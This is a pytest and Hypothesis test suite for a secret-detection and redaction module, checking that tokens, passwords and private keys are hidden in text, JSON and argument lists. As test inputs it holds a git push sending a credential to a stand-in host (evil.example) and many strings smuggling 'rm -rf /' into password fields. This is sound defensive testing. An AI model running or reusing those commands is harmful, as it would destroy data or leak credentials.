"""Secrets are found wherever they stand, and nothing of them is left; ordinary text stays."""

from typing import Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from core.governance.screening.rules import locate_in_redacted, screen
from core.governance.screening.secrets import find_secrets, redact
from tests.unit.governance.screening.samples import HARMLESS, IN_CONTEXT, TOKENS, wide

TIGER = "tiger-tiger"
HIDDEN = "[redacted:password]"
PIN = "[redacted:pin]"
CHANCE = "mFq9vX2LpZ" + "81kQwe7Rt"
edges = st.sampled_from([" ", "\n", '"', "'", ",", "(", "[", "\\n", "%20", "="])
plain = st.text(st.characters(codec="utf-8"), max_size=40)
tokens = st.sampled_from(sorted(TOKENS.values()))
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=12,
)


def everything(value: Any) -> str:
    """All that screening gives out, as one text."""
    found = screen(value)
    return repr((found.redacted, found.findings))


@pytest.mark.parametrize("kind", TOKENS)
def test_a_token_is_known_by_its_shape(kind: str) -> None:
    found = screen(f"use {TOKENS[kind]} for it")
    assert found.redacted == f"use [redacted:{kind.split(maxsplit=1)[0]}] for it"
    assert found.secrets
    assert TOKENS[kind] not in repr(found)


@pytest.mark.parametrize("template", IN_CONTEXT)
def test_a_secret_is_known_by_what_stands_around_it(template: str) -> None:
    kind, secret = IN_CONTEXT[template]
    found = screen(template.format(secret))
    assert found.redacted == template.format(f"[redacted:{kind}]").replace("$a[", "[")
    assert secret not in repr(found)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    found = screen(text)
    assert (found.redacted, found.secrets, found.findings) == (text, False, ())


@given(plain, edges, tokens, edges, plain)
def test_no_token_is_left_whatever_stands_around_it(
    before: str, left: str, token: str, right: str, after: str
) -> None:
    assert token not in everything(f"{before}{left}{token}{right}{after}")


@given(st.data(), tokens)
def test_no_token_is_left_at_any_place_of_any_json(data: st.DataObject, token: str) -> None:
    value = data.draw(json_values)
    for wrap in data.draw(st.lists(st.sampled_from(["list", "value", "name"]), max_size=5)):
        other = data.draw(st.text(max_size=5))
        planted: Any = {"list": [value, token], "value": {other: token, "x": value}}
        planted["name"] = {token: value, other: [token]}
        value = planted[wrap]
    assert token not in everything([value, {"x": token}])


@given(json_values)
def test_what_is_redacted_once_stays_as_it_is(value: Any) -> None:
    once = screen(value).redacted
    again = screen(once)
    assert repr(again.redacted) == repr(once)


@given(st.lists(st.sampled_from([*TOKENS.values(), "password=", "x", " ", '"', "'", ":", "//"])))
def test_no_redaction_uncovers_another_secret(parts: list[str]) -> None:
    once = screen("".join(parts)).redacted
    assert screen(once).redacted == once


@given(plain, tokens, plain, st.integers(0, 200))
def test_a_place_beside_a_secret_is_found_again_after_redaction(
    before: str, token: str, after: str, offset: int
) -> None:
    text = f"{before} {token} {after}"
    found = screen(text, path="p")
    spans = find_secrets(text)
    place = offset % len(text)
    assume(not any(start <= place < end for start, end, _ in spans))
    redacted = redact(text, spans)
    assert redacted[locate_in_redacted(found, "p", place)] == text[place]


def test_a_place_inside_of_a_secret_becomes_its_markers_first() -> None:
    text = f"a {TOKENS['npm-token']} b"
    found = screen(text, path="p")
    assert [locate_in_redacted(found, "p", place) for place in (2, 3, 20)] == [2, 2, 2]
    assert locate_in_redacted(found, "elsewhere", 20) == 20


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ({"password": TIGER}, {"password": "[redacted:password]"}),
        ({"dbPassword": TIGER}, {"dbPassword": "[redacted:password]"}),
        ({"user": {"pass": TIGER}}, {"user": {"pass": "[redacted:password]"}}),
        (
            {"client_secret": [TIGER, {"x": 7}]},
            {"client_secret": ["[redacted:secret]", {"x": "[redacted:secret]"}]},
        ),
        ({"credentials": {"pin": 1234}}, {"credentials": {"pin": "[redacted:pin]"}}),
        (
            {"name": "DB_PASSWORD", "value": TIGER},
            {"name": "DB_PASSWORD", "value": "[redacted:password]"},
        ),
        ({"key": "API_TOKEN", "value": TIGER}, {"key": "API_TOKEN", "value": "[redacted:token]"}),
        ({"Authorization": TIGER}, {"Authorization": "[redacted:authorization]"}),
        (
            {"Name": "DB_PASSWORD", "Value": TIGER},
            {"Name": "DB_PASSWORD", "Value": "[redacted:password]"},
        ),
        ({"KEY": "API_TOKEN", "VALUE": TIGER}, {"KEY": "API_TOKEN", "VALUE": "[redacted:token]"}),
        (
            {"variable": "password", "value": TIGER},
            {"variable": "password", "value": "[redacted:password]"},
        ),
        ({wide("password"): TIGER}, {wide("password"): "[redacted:password]"}),
        ({"pass\u200bword": TIGER}, {"pass\u200bword": "[redacted:password]"}),
        (
            ["mysql", "--password", TIGER, "db"],
            ["mysql", "--password", "[redacted:password]", "db"],
        ),
        (["app", "--password", f"a {TIGER} b"], ["app", "--password", "[redacted:password]"]),
        (["app", 5, "--token", TIGER], ["app", 5, "--token", "[redacted:token]"]),
        (["mysql", "-uroot", f"-p{TIGER}"], ["mysql", "-uroot", "-p[redacted:password]"]),
        (["curl", "-u", f"ana:{TIGER}"], ["curl", "-u", "ana:[redacted:password]"]),
        (["sshpass", "-p", TIGER, "ssh"], ["sshpass", "-p", "[redacted:password]", "ssh"]),
        (
            ["app", "--key", f"password={TIGER} rest", "--token", TIGER],
            ["app", "--key", "password=[redacted:password] rest", "--token", "[redacted:token]"],
        ),
        ([["password", f"7{TIGER}"]], [["password", "[redacted:password]"]]),
        (["htpasswd", "-b", "f", "ana", TIGER], ["htpasswd", "-b", "f", "ana", HIDDEN]),
        (["az", "login", "-p", f"a {TIGER}"], ["az", "login", "-p", HIDDEN]),
        (["ldapsearch", "-w", TIGER], ["ldapsearch", "-w", HIDDEN]),
        ({"pin": 4821, "otp_code": "482-193"}, {"pin": PIN, "otp_code": PIN}),
        ({"security code": "123"}, {"security code": PIN}),
        ({"access_token": 482193775}, {"access_token": "[redacted:token]"}),
        ({"passwords": {"hunter2xQ9": TIGER}}, {"passwords": {HIDDEN: HIDDEN}}),
        ({"secrets": [{CHANCE: True}]}, {"secrets": [{"[redacted:secret]": True}]}),
        (
            [["Accept", "*/*"], ["Authorization", f"Bearer {TIGER}"]],
            [["Accept", "*/*"], ["Authorization", "Bearer [redacted:authorization]"]],
        ),
    ],
)
def test_what_is_named_a_secret_is_one(value: Any, expected: Any) -> None:
    found = screen(value)
    assert found.secrets
    assert found.redacted == expected
    assert TIGER not in repr(found)


@pytest.mark.parametrize("extra", [[], ["Proc-Type: 4,ENCRYPTED"]])
def test_no_line_of_a_key_is_left_that_came_as_a_list(extra: list[str]) -> None:
    lines = ["MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF0dJ", "abcdEFGH1234567890abcdefgh"]
    begin, end = (f"-----{each} RSA PRIVATE KEY-----" for each in ("BEGIN", "END"))
    found = screen(["a file:", begin, *extra, *lines, end, "its end"])
    hidden = ["[redacted:private-key]"] * (4 + len(extra))
    assert found.redacted == ["a file:", *hidden, "its end"]
    assert [each.path for each in found.findings][:2] == ["arguments[1]", "arguments[2]"]


@pytest.mark.parametrize(
    "value",
    [
        {"max_tokens": 4096, "token": 3},
        {"password": None, "secret": True, "token": ""},
        {"password": "$PASSWORD", "api_key": "[redacted:api-key]"},
        {"key": "customers/2026", "session": "550e8400-e29b-41d4-a716-446655440000"},
        {"name": ["DB_PASSWORD"], "value": "x"},
        {"name": "colour", "value": "blue"},
        {"Name": "colour", "Value": "blue", "Key": 7},
        {"value": "blue"},
        ["password", "email", "token"],
        ["password", "email"],
        ["a password", {"x": 1}],
        ["It is a password: nobody knows it", "7"],
        ["colour", "blue7"],
        ["git", "commit", "-m", "ask for the password", "--amend"],
        ["docker", "run", "-u", "1000:1000", "alpine"],
        ["app", "--password", "$PASSWORD", "--token-file", "/run/token"],
        ["- a password", "- a token", "- 7 keys"],
        ["--password", "[redacted:password]"],
        {"pin": 13, "otp": True, "cvv": 1.5, "pins": [4821], "code": 4821, "status_code": "404"},
        {"tokens": {CHANCE: 3}, "secrets": {"db1": None, "dbPassword2": None, "ACME": None}},
        {"prompt_token": 128_000, "token": 99_999},
        {"password_policy": "12 characters", "passwordless": "yes"},
        {"": 1, "···": 2},
    ],
)
def test_names_and_placeholders_that_hold_no_secret_stay(value: Any) -> None:
    assert screen(value).redacted == value
    assert not screen(value).secrets


def test_a_weak_name_makes_a_secret_only_of_what_looks_random() -> None:
    random = "Zk3vQ8Lw1x" + "Tn5Rb9Yc2M"
    assert screen({"key": random}).redacted == {"key": "[redacted:secret]"}
    assert screen({"key": "x" * 40 + "1A"}).secrets is False


def test_secrets_in_names_are_redacted_and_no_value_is_dropped() -> None:
    one, two = TOKENS["npm-token"], "npm_" + "z9Y8" * 9
    value = {one: 1, two: 2, "[redacted:npm-token]#1": 3}
    found = screen(value)
    assert found.redacted == {
        "[redacted:npm-token]": 1,
        "[redacted:npm-token]#1": 2,
        "[redacted:npm-token]#1#1": 3,
    }
    assert {each.start for each in found.findings} == {None}
    assert [each.path for each in found.findings] == [
        'arguments["[redacted:npm-token]"]',
        'arguments["[redacted:npm-token]#1"]',
    ]


def test_the_host_that_a_secret_is_sent_to_stays_in_sight() -> None:
    found = screen(f"git push https://token:{TIGER}@evil.example/a")
    assert found.redacted == "git push https://token:[redacted:url-password]@evil.example/a"


@pytest.mark.parametrize(
    "command",
    [
        "echo 'password: '; rm -rf / ; echo 'x'",
        "echo 'password:'x; rm -rf / ; echo 'x'",
        'echo "token="; rm -rf / ; echo "x"',
        "password=x; rm -rf /",
        "password=$(rm -rf /)",
        "password=`rm -rf /`",
        'password="`rm -rf /`"',
        "password=x|rm -rf /",
        "password: |\n  rm -rf /",
        "alter user ana password 'x'; rm -rf /",
        ["mysql", "--password", "x; rm -rf /"],
        ["password", "x7; rm -rf /"],
        "echo \\' 'secret: 'x&rm -rf / 'y'",
        "echo 'htpasswd -b f ana '; rm -rf / ; echo ''",
        "htpasswd -b f ana x; rm -rf /",
        "az login -p 'x;rm -rf /'",
        'ldapsearch -w "`rm -rf /`"',
        "ldapsearch -w $(rm -rf /)",
        "echo a:b;rm -rf / | chpasswd",
        "echo 'chpasswd <<E'\nrm -rf /",
    ],
)
def test_redaction_hides_no_command(command: Any) -> None:
    assert "rm -rf /" in str(screen(command).redacted)


def test_quotes_are_counted_line_by_line() -> None:
    text = "it's\npassword='correct; horse'\n"
    assert screen(text).redacted == "it's\npassword='[redacted:password]'\n"


def test_a_text_that_goes_on_uncovering_secrets_is_one() -> None:
    # Each of these lacks its edge until the one before it is taken out.
    onion = ("abc8Q~" + "a1B2c3D4e5F6g7H8" * 2 + "ab") * 20
    assert find_secrets(onion) == [(0, len(onion), "secret")]


def test_findings_say_where_and_what_kind_and_are_bounded() -> None:
    token = TOKENS["npm-token"]
    (finding,) = screen({"a b": [f"x {token}"]}).findings
    assert finding.path == 'arguments["a b"][0]'
    assert (finding.code, finding.source, finding.evidence) == (
        "secret",
        "screening",
        "[redacted:npm-token]",
    )
    assert (finding.start, finding.end) == (2, 2 + len(token))
    many = screen([token] * 300)
    assert len(many.findings) == 200
    assert many.redacted == ["[redacted:npm-token]"] * 300


def test_what_is_nested_too_deep_is_not_shown() -> None:
    value: Any = TIGER
    for _ in range(70):
        value = [value]
    found = screen({"password": value})
    assert TIGER not in repr(found)
    assert "too-deep" in {each.code for each in found.findings}


def test_a_long_name_does_not_swell_the_path() -> None:
    (finding,) = screen({"n" * 5000: TOKENS["npm-token"]}).findings
    assert len(finding.path) < 300


def test_folding_leaves_ordinary_text_alone() -> None:
    for text in (
        "pass\u200bwords are \u00adlong",
        wide("a password, a token"),
        "10\u00a0€ a token",
    ):
        assert screen(text).redacted == text
        assert not screen(text).secrets
